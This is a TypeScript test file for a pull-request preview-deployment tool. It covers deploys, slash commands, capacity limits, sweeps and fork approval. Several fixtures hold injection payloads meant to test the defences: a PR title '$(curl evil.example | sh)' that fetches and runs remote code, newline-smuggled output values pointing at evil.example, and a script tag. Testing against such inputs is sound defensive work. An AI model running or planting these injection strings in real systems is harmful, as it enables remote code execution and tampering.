import { describe, expect, test } from 'vitest';
import { previewModes } from '../../src/domain/preview.ts';
import { createFuse } from './fuse.ts';
import { createTeam, teamOf } from './team.ts';

const flat = (text: string): string => text.replaceAll(/\s+/g, ' ');

/** Both ways of having previews live one life. */
describe.each(previewModes)('mode: %s', (mode) => {
  describe('one pull request of somebody who writes here', () => {
    const team = teamOf(mode);
    const { people } = team.github;
    let opened: ReturnType<typeof people.openPull>;

    test('opened: it waits for its images, and says so; no place is taken', async () => {
      opened = people.openPull({ author: 'alice', title: 'Mend the <script>basket</script>' });
      const heard = await team.hear(opened);
      expect(heard.exitCode, heard.stderr).toBe(0);
      expect(heard.outputs).toMatchObject({ state: 'waiting-for-images', environment: `pr-${opened.number}`, url: '' });
      expect(team.commentAt(opened.number)).toContain('waits for its images');
      expect(await team.servers()).toEqual([]);
      expect(heard.asked.github.length).toBeLessThanOrEqual(8);
    });

    test('its images are built: it is made, with a URL in the comment, the outputs and the summary', async () => {
      const heard = await team.built(opened.number);
      expect(heard.exitCode, heard.stderr).toBe(0);
      const url = `http://pr-${opened.number}.pr.aipacto.com`;
      expect(heard.outputs).toEqual({ state: 'deployed', environment: `pr-${opened.number}`, url, sha: opened.sha });
      expect(flat(heard.stdout)).toMatch(/pr-1: deployed it runs commit .* - deployed \w{7} to pr-1 http:\/\/pr-1/);
      expect(flat(heard.stdout)).toMatch(/said at https:\/\/github\.com\/acme\/shop\/pull\/1#issuecomment-\d+/);
      expect(flat(heard.stdout)).toMatch(/requests: [1-8] to GitHub \(\d+ left\), \d+ to Hetzner/);
      expect(heard.summary).toContain('### The look at a pull request');
      expect(heard.summary).toContain(url);
      expect(team.commentAt(opened.number)).toContain(url);
      expect(await team.servers()).toEqual(['pr-1']);
    });

    test('pushed and built: redeployed with 6 requests to Hetzner and 8 to GitHub at most', async () => {
      const pushed = people.push(opened.number);
      await team.hear(pushed);
      const heard = await team.built(opened.number);
      expect(heard.exitCode, heard.stderr).toBe(0);
      expect(flat(heard.stdout)).toContain(`deployed ${pushed.sha.slice(0, 7)} to pr-1`);
      expect(heard.asked.hetzner.length, heard.asked.hetzner.join('\n')).toBeLessThanOrEqual(6);
      expect(heard.asked.github.length, heard.asked.github.join('\n')).toBeLessThanOrEqual(8);
      expect(team.commentAt(opened.number)).toContain(pushed.sha.slice(0, 7));
    });

    test('/destroy: it goes, and stays away when it is looked at again; /deploy makes it anew', async () => {
      const gone = await team.hear(people.comment(opened.number, { by: 'alice', body: '/destroy' }));
      expect(gone.exitCode, gone.stderr).toBe(0);
      expect(await team.left()).toEqual([]);
      expect((await team.run('sweep')).exitCode).toBe(0);
      expect(await team.left()).toEqual([]);
      await team.hear(people.comment(opened.number, { by: 'bob', body: '/deploy' }));
      expect(await team.servers()).toEqual(['pr-1']);
    });

    test('closed: nothing is left, and its comment says so', async () => {
      const heard = await team.hear(people.close(opened.number));
      expect(heard.exitCode, heard.stderr).toBe(0);
      expect(heard.outputs).toMatchObject({ state: 'destroyed', url: '' });
      expect(await team.left()).toEqual([]);
      expect(team.commentAt(opened.number)).toContain('is gone');
      expect(flat((await team.lab.run('list')).stdout)).not.toContain(`http://pr-${opened.number}.`);
    });
  });

  describe('a stranger', () => {
    const team = teamOf(mode);
    const { people } = team.github;

    test('approved at commit A and pushed to B: B is not deployed, whatever is built and looked at', async () => {
      const a = people.openPull({ author: 'mallory', fork: true, title: '$(curl evil.example | sh)' });
      await team.hear(a);
      expect(team.commentAt(a.number)).toContain('/deploy');
      const waiting = await team.built(a.number);
      expect(waiting.outputs).toMatchObject({ state: 'waiting-for-approval' });
      expect(waiting.exitCode).toBe(0);
      expect(await team.left()).toEqual([]);

      await team.lab.emulator.clock.sleep(120_000);
      const b = people.push(a.number);
      await team.hear(people.comment(a.number, { by: 'alice', body: '/deploy' }));
      expect(await team.left()).toEqual([]);
      await team.hear(b);
      await team.built(a.number);
      expect((await team.run('sweep')).exitCode).toBe(0);
      expect(await team.left()).toEqual([]);

      await team.lab.emulator.clock.sleep(120_000);
      const approved = await team.hear(people.comment(a.number, { by: 'alice', body: `/deploy ${b.sha}` }));
      expect(approved.outputs, approved.stdout + approved.stderr).toMatchObject({ state: 'deployed' });
      const c = people.push(a.number);
      await team.hear(c);
      await team.built(a.number);
      const image = await imageOf(team);
      expect(image).toContain(b.sha.slice(0, 12));
      expect(image).not.toContain(c.sha.slice(0, 12));
    });

    test('what a stranger says moves nothing', async () => {
      const before = await team.left();
      const heard = await team.hear(people.comment(1, { by: 'mallory', body: '/destroy' }));
      expect(heard.exitCode).toBe(0);
      expect(await team.left()).toEqual(before);
    });
  });

  describe('two places and three pull requests', () => {
    const team = teamOf(mode);
    const { people } = team.github;

    test('the third waits and is told who has the places; when one is closed it is served by that very event', async () => {
      for (const author of ['alice', 'bob', 'carol']) {
        await team.hear(people.openPull({ author }));
        await team.built(team.github.state.pulls.length);
      }
      expect(await team.servers()).toEqual(['pr-1', 'pr-2']);
      expect(team.commentAt(3)).toContain('waits for a place');
      expect(team.commentAt(3)).toContain('pr-1');
      expect(flat((await team.lab.run('list')).stdout)).toMatch(/pr-3 waits for one since .*, by carol/);

      const heard = await team.hear(people.merge(1, 'alice'));
      expect(heard.exitCode, heard.stderr).toBe(0);
      expect(await team.servers()).toEqual(['pr-2', 'pr-3']);
      expect(flat(heard.stdout)).toMatch(/pr-1: destroyed the pull request is merged.*pr-3: deployed/);
      expect(team.commentAt(3)).toContain('http://pr-3.pr.aipacto.com');
    });

    test('a sweep tells what it would do and does it not; then it does it', async () => {
      people.close(2);
      people.draft(3);
      const imagined = await team.run('sweep --dry-run');
      expect(imagined.exitCode, imagined.stderr).toBe(0);
      expect(flat(imagined.stdout)).toMatch(/would be destroyed \(2\) pr-2: .* the pull request is closed/);
      expect(flat(imagined.stdout)).toContain('the pull request is a draft');
      expect(imagined.asked.hetzner.filter((request) => !request.startsWith('GET '))).toEqual([]);
      expect(imagined.asked.github.filter((request) => !request.startsWith('GET '))).toEqual([]);
      expect(await team.servers()).toEqual(['pr-2', 'pr-3']);

      const swept = await team.run('event --event schedule');
      expect(swept.exitCode, swept.stderr).toBe(0);
      expect(flat(swept.stdout)).toMatch(/destroyed \(2\) pr-2: .*pr-3: /);
      expect(await team.left()).toEqual([]);
      const again = await team.lab.json('sweep');
      expect(again.document.looked.filter((one: { action: string }) => one.action === 'destroyed')).toEqual([]);
    });
  });

  test('a run that is killed in the middle of a create leaves nothing once its pull request is closed and a sweep has looked', async () => {
    const team = teamOf(mode);
    const { people } = team.github;
    await team.hear(people.openPull({ author: 'alice' }));
    if (mode === 'pool') expect((await team.lab.run('pool --yes')).exitCode).toBe(0);
    const fuse = createFuse(5, mode === 'pool' ? 'servers' : 'Hetzner');
    const victim = teamOf(mode, { over: team, wrap: fuse.fetch, store: fuse.store(team.lab.store) });
    await victim.built(1);
    expect(fuse.blown()).toBe(true);
    expect((await team.left()).length).toBeGreaterThan(0);
    people.close(1);
    await team.lab.emulator.clock.sleep(120_000);
    const swept = await team.run('sweep');
    expect(swept.exitCode, swept.stdout + swept.stderr).toBe(0);
    expect(await team.left()).toEqual([]);
    expect(flat((await team.lab.run('list')).stdout)).not.toContain('places of previews');
  });
});

/** What the one preview's web job runs. */
const imageOf = async ({ lab }: ReturnType<typeof createTeam>): Promise<string> => {
  const { document } = await lab.json('state show pr 1');
  return JSON.stringify(document.state?.images ?? document);
};

describe('what can not be', () => {
  test.each([0, -7, 1.5, '7', 1e21, 99_999_999, null])(
    'an event about pull request %s: nothing is looked at, nothing is changed, no stack trace',
    async (number) => {
      const team = createTeam();
      const { event, payload } = team.github.people.openPull({ author: 'alice' });
      const pull = { ...(payload['pull_request'] as object), number };
      const heard = await team.hear({ event, delivery: '', payload: { ...payload, number, pull_request: pull } });
      expect(heard.exitCode, heard.stderr).toBe(0);
      expect(heard.stdout).toContain('nothing to look at: ');
      expect(heard.stdout + heard.stderr).not.toContain('    at ');
      expect(heard.asked.hetzner).toEqual([]);
    },
  );

  test('an event of another repository, a payload that is no JSON, no payload at all', async () => {
    const team = createTeam();
    const { event, payload } = team.github.people.openPull({ author: 'alice' });
    const other = { ...payload, repository: { id: 9, full_name: 'mallory/shop' } };
    expect((await team.hear({ event, delivery: '', payload: other })).stdout).toContain('nothing to look at: ');
    team.lab.files.set('/event.json', '{"action":');
    const broken = await team.run('event --event pull_request --payload /event.json');
    expect(broken.exitCode).toBe(1);
    expect(broken.stderr).toContain('/event.json should hold an event as JSON');
    expect((await team.run('event --event pull_request --payload /nowhere')).exitCode).toBe(1);
    expect((await team.run('event --event pull_request')).exitCode).toBe(64);
    expect((await team.run('event')).exitCode).toBe(64);
  });

  test('values of a pull request can not write outputs of their own', async () => {
    const team = createTeam();
    const { people } = team.github;
    await team.hear(
      people.openPull({ author: 'alice', title: 'a\nurl=https://evil.example', ref: 'x\nstate=deployed' }),
    );
    const heard = await team.built(1);
    expect(Object.keys(heard.outputs).sort()).toEqual(['environment', 'sha', 'state', 'url']);
    expect(heard.outputs['url']).toBe('http://pr-1.pr.aipacto.com');
  });
});
